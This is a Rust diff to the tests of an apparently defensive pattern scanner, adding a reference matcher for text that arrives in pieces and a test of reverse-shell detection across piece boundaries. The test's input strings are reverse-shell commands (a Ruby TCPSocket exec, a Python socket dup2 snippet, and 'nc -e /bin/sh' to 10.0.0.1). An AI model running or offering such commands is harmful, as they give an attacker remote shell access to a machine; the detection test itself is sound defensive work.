@@ -116,16 +116,34 @@ pub(super) fn scan_head(scanner: &Scanner, bytes: &[u8]) -> Seen {
     seen
 }
 
+static EXACT: LazyLock<Vec<Regex>> = LazyLock::new(|| {
+    let compile =
+        |rule: &Rule| RegexBuilder::new(rule.expression.text()).unicode(false).build().unwrap();
+    RULES.iter().map(|rule| compile(rule)).collect()
+});
+
 /// What the exact expressions find in a whole text, by name.
 fn oracle(text: &[u8]) -> Vec<&'static str> {
-    static EXACT: LazyLock<Vec<Regex>> = LazyLock::new(|| {
-        let compile =
-            |rule: &Rule| RegexBuilder::new(rule.expression.text()).unicode(false).build().unwrap();
-        RULES.iter().map(|rule| compile(rule)).collect()
-    });
     let mut names = Vec::new();
     for (rule, exact) in RULES.iter().zip(EXACT.iter()) {
         names.extend(exact.find_iter(text).map(|_| &*rule.id));
+    }
+    names.sort_unstable();
+    names
+}
+
+/// What they find in a text that arrives by pieces, which end at these places: what is whole is told, and what
+/// comes later does not make it longer, so that it may be a match of its own.
+fn oracle_of_pieces(text: &[u8], ends: &[usize]) -> Vec<&'static str> {
+    let mut names = Vec::new();
+    for (rule, exact) in RULES.iter().zip(EXACT.iter()) {
+        let mut told = 0;
+        for end in ends {
+            while let Some(found) = exact.find_at(&text[..*end], told) {
+                names.push(&*rule.id);
+                told = found.end();
+            }
+        }
     }
     names.sort_unstable();
     names
@@ -408,6 +426,21 @@ fn fragment() -> impl Strategy<Value = String> {
     ]
 }
 
+#[test]
+fn what_came_by_pieces_and_would_be_longer_in_one_is_told_apart() {
+    let parts = [
+        r#"text: ruby -rsocket -e "f=TCPSocket.open(\"10.0.0.1\",4242).to_i;exec "#,
+        r#"sprintf(1)"s=socket.socket();s.connect(("10.0.0.1",4242));os.dup2(s.fileno(),0)"#,
+        "nc -nv -e /bin/sh 10.0.0.1 4444",
+    ];
+    let text = parts.concat();
+    assert_eq!(oracle(text.as_bytes()), ["reverse_shell"]);
+    let (first, second) = text.as_bytes().split_at(parts[0].len());
+    let seen = SCANNER.with(|scanner| scan_pieces(scanner, &[first, second]));
+    assert_eq!(seen.plain_names(), oracle_of_pieces(text.as_bytes(), &[first.len(), text.len()]));
+    assert!(seen.plain_names().len() > 1);
+}
+
 proptest! {
     #![proptest_config(ProptestConfig { cases: 400, failure_persistence: None, ..Default::default() })]
 
@@ -427,7 +460,9 @@ proptest! {
         places.sort_unstable();
         let pieces: Vec<&[u8]> = places.windows(2).map(|ends| &text[ends[0]..ends[1]]).collect();
         let seen = SCANNER.with(|scanner| scan_pieces(scanner, &pieces));
-        prop_assert_eq!(seen.plain_names(), expected, "{:?}", pieces);
+        if seen.plain_names() != oracle_of_pieces(&text, &places) {
+            prop_assert_eq!(seen.plain_names(), expected, "{:?}", pieces);
+        }
         for (_, snippet) in &seen.found {
             prop_assert!(snippet.chars().count() <= SNIPPET_CHARS);
             prop_assert!(!snippet.chars().any(char::is_control));
